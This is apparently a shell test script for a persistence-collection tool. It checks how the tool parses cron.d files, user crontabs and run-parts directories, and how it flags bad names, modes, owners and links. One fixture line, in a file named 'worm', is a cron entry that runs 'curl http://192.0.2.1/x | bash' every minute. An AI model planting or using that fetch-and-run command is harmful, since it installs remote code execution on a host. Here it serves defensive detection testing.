# t-cron.sh - crontabs are read as Debian's cron reads them, and run-parts
# plain
. "$(dirname "$0")/lib.sh"
. "$TESTS/art.sh"
C=$BIN/collect-persistence

# What is wrong with each case, as the table says: "" if it is taken.
python3 "$TESTS/cron.py" make "$T/tab" || exit 1
python3 "$TESTS/cron.py" want >"$T/want"
[ "$ROOTED" = 1 ] && chown 1 "$T/tab/var/spool/cron/crontabs/daemon"
"$C" -r "$T/tab" >"$T/rec" 2>"$T/err"
if [ "$ROOTED" = 1 ]; then
	jq -r 'select(.k=="persist") | [.path, .defect // "-"] | @tsv' "$T/rec" |
		sed 's|^.*/||' | awk -F'\t' '{ seen[$1] = 1 }
		$2 != "-" && $2 !~ /^the whole file|^never/ && !($1 in d) { d[$1] = $2 }
		END { for (n in seen) print n "\t" d[n] }' | sort >"$T/got"
	tab=$(printf '\t')
	while IFS="$tab" read -r name want; do
		is "case $name" "$(sed -n "s/^$name	//p" "$T/got")" "$want"
	done <"$T/want"
	# one mistake, and the good line above it does not count either
	is "a refused file is refused whole" "$(jq -r 'select(.k=="persist" and
		.path=="/etc/cron.d/worm" and .line==1) | .defect' "$T/rec")" \
		"the whole file is ignored: bad username in line 2"
	is "a time that never comes" "$(jq -r 'select(.k=="persist" and
		.path=="/etc/cron.d/backwards" and .line==2) | .defect' "$T/rec")" \
		"never: a range of its time runs backwards"
	is "every line of the longest file is a row" "$(jq -r 'select(
		.path=="/etc/cron.d/entries") | 1' "$T/rec" | wc -l)" 10002
	# the worm's line, as the contract has it
	is "the worm's line: no owner, all behind the time fields" \
		"$(jq -c 'select(.path=="/etc/cron.d/worm" and .line==2) |
		[.owner, .schedule, .command, .text]' "$T/rec")" \
		'[null,"* * * * *","curl http://192.0.2.1/x | bash","* * * * * curl http://192.0.2.1/x | bash"]'
	is "what follows % is the command's input" \
		"$(jq -c 'select(.path=="/etc/cron.d/percent" and .line==2) |
		.command' "$T/rec")" '"sh\ntrue"'
else
	skip "the table of crontabs" "crontabs must belong to root"
fi

# The table against cron itself, where it is the one that the table describes.
if [ "$ROOTED" = 1 ] && dpkg-query -W -f '${Version}' cron 2>/dev/null |
	grep -q '^3\.0pl1-16[2-9]'; then
	python3 "$TESTS/cron.py" make "$T/live"
	if python3 "$TESTS/cron.py" ask "$T/live" >"$T/asked" 2>"$T/err"; then
		is "cron itself says so" "$(diff "$T/want" "$T/asked")" ""
	else
		skip "cron itself says so" "$(tail -n 1 "$T/err")"
	fi
else
	skip "cron itself says so" "cron 3.0pl1-162 is not installed"
fi

# Owners, modes, links and names of the files themselves.
line='1 1 1 1 * root true'
cat >"$T/spec" <<E
f etc/passwd <<X
root:x:0:0:root:/root:/bin/sh
alice:x:1000:1000::/home/alice:/bin/sh
X
for n in plain under_score with-dash UPPER 0digit a.dot tilde~ sp\ ace x.dpkg-old .hidden; do
	echo '$line' | f "etc/cron.d/\$n"
done
printf '$line\n' | f "etc/cron.d/\$(printf 'new\nline')"
printf '$line\n' | f "etc/cron.d/\$(printf 'b\377d')"
echo '$line' | f etc/cron.d/group 0664
echo '$line' | f etc/cron.d/others 0646
echo '$line' | f etc/cron.d/noread 0000
echo '$line' | f etc/cron.d/exec 0755
echo '$line' | f etc/cron.d/owner 0644 1000:0
echo '$line' | f etc/cron.d/hard
ln etc/cron.d/hard etc/cron.d/hard2
echo '$line' | f opt/root
echo '$line' | f opt/alice 0644 1000:1000
l etc/cron.d/linkroot /opt/root
l etc/cron.d/linkalice /opt/alice
l etc/cron.d/linkdot a.dot
l etc/cron.d/linkout ../../../../../../../opt/none
l etc/cron.d/loop loop
l etc/cron.d/linkowner /opt/root
chown -h 1000:1000 etc/cron.d/linkowner
echo '$line' | f etc/crontab 0622
u='1 1 1 1 * true'
echo "\$u" | f var/spool/cron/crontabs/alice 0600 1000:1000
E
if [ "$ROOTED" = 1 ]; then
	mkroot "$T/spec" "$T/files"
	"$C" -r "$T/files" >"$T/rec" 2>"$T/err"
	sp=var/spool/cron/crontabs
	defect() { jq -r --arg v "$1" 'select(.k=="persist" and
		(.via // .path)==$v) | .defect // "-"' "$T/rec" | sort -u; }
	dot="name has a byte other than letters, digits, '-' and '_': ignored"
	for n in plain under_score with-dash UPPER 0digit noread exec linkroot; do
		is "cron.d/$n is taken" "$(defect "/etc/cron.d/$n")" "-"
	done
	for n in a.dot tilde~ "sp ace" x.dpkg-old; do
		is "cron.d/$n is passed over" "$(defect "/etc/cron.d/$n")" "$dot"
	done
	is "cron.d: a newline in the name" \
		"$(defect "$(printf '/etc/cron.d/new\nline')")" "$dot"
	is "cron.d: a name that is not UTF-8" \
		"$(jq -r 'select(.path_b64=="L2V0Yy9jcm9uLmQvYv9k") | .defect' \
			"$T/rec")" "$dot"
	is "cron.d: a dot in front" "$(defect /etc/cron.d/.hidden)" \
		"name begins with a dot: ignored"
	mode="insecure mode (group or others may write)"
	is "cron.d: group may write" "$(defect /etc/cron.d/group)" "$mode"
	is "cron.d: others may write" "$(defect /etc/cron.d/others)" "$mode"
	is "crontab: others may write" "$(jq -r 'select(.artifact=="cron-system") |
		.defect' "$T/rec")" "$mode"
	is "cron.d: not root's" "$(defect /etc/cron.d/owner)" "wrong file owner"
	is "cron.d: a link to a file that is not root's" \
		"$(defect /etc/cron.d/linkalice)" "wrong file owner"
	is "cron.d: a link that is not root's" \
		"$(defect /etc/cron.d/linkowner)" "wrong owner of the symbolic link"
	is "cron.d: two names" "$(defect /etc/cron.d/hard)" \
		"more than one hard link"
	is "cron.d: a link without target is a row" \
		"$(defect /etc/cron.d/linkout)" "link without target"
	is "cron.d: a loop is a row" "$(defect /etc/cron.d/loop)" \
		"link without target"
	# a good name for a file that cron would not read under its own
	is "cron.d: a good link to a bad name runs" \
		"$(defect /etc/cron.d/linkdot)" "-"
	is "one file, one path" "$(jq -r 'select(.k=="persist" and
		.via=="/etc/cron.d/linkroot") | .path' "$T/rec")" /opt/root
	is "a user's crontab" "$(defect /$sp/alice)" "-"
	# the same file again and again: what cron checks of a user's crontab
	again() { # WHAT WANTED: $T/files was changed
		"$C" -r "$T/files" >"$T/rec" 2>"$T/err"
		is "$1" "$(defect /$sp/alice)" "$2"
	}
	chmod 0644 "$T/files/$sp/alice"
	again "user: mode" "insecure mode (0600 expected)"
	chmod 4600 "$T/files/$sp/alice"
	again "user: set-uid" "insecure mode (0600 expected)"
	chmod 0600 "$T/files/$sp/alice"; chown 0 "$T/files/$sp/alice"
	again "user: of root" "-"
	chown 1 "$T/files/$sp/alice"
	again "user: of another" "wrong file owner"
	chown 1000 "$T/files/$sp/alice"; ln "$T/files/$sp/alice" "$T/files/opt/x"
	again "user: two names" "more than one hard link"
	rm "$T/files/opt/x"
	mv "$T/files/$sp/alice" "$T/files/opt/tab"
	ln -s /opt/tab "$T/files/$sp/alice"
	again "user: a link" "is a symbolic link"
	rm "$T/files/$sp/alice"
	mv "$T/files/opt/tab" "$T/files/$sp/alice"
	sed -i /alice/d "$T/files/etc/passwd"
	again "user: no account" "no such account"
	# Debian's cron with -l takes names with dots
	f "$T/files/usr/sbin/cron" 0755 </dev/null
	echo 'EXTRA_OPTS="-l -L 1"' | f "$T/files/etc/default/cron"
	"$C" -r "$T/files" >"$T/rec" 2>"$T/err"
	is "cron -l" "$(defect /etc/cron.d/a.dot)" "-"
else
	skip "owners and modes" "not root"
fi

# run-parts: what it would start is what has no defect
mkdir -p "$T/parts/etc/cron.daily"
( cd "$T/parts/etc/cron.daily" || exit 1
  for n in a B 0 a-b a_b a.b .a a~ 'a b' a.dpkg-dist "$(printf 'a\nb')" \
	  "$(printf 'a\351')" a+b a,b a@b -x; do
	printf '#!/bin/sh\n' >"./$n"; chmod 755 "./$n"
  done
  printf x >noexec; printf x >group; chmod 0610 group
  printf x >other; chmod 0601 other
  mkdir dir; ln -s a link; ln -s a.b good; ln -s gone dangling; ln -s dir linkdir
  ln -s noexec linknoexec; mkfifo fifo; chmod 755 fifo )
"$C" -r "$T/parts" --as host >"$T/rec" 2>"$T/err"
jq -r 'select(.artifact=="cron-daily" and .defect==null and .command and
	.line==null) | .command' "$T/rec" | sort >"$T/got"
if [ "$ROOTED" = 1 ]; then
	(cd "$T/parts/etc/cron.daily" && run-parts --test . | sed 's|^\.|/etc/cron.daily|') |
		sort >"$T/want"
	is "run-parts starts what has no defect" \
		"$(diff "$T/want" "$T/got")" ""
	ok "and it starts some" test -s "$T/got"
else
	skip "run-parts" "not root"
fi
finish
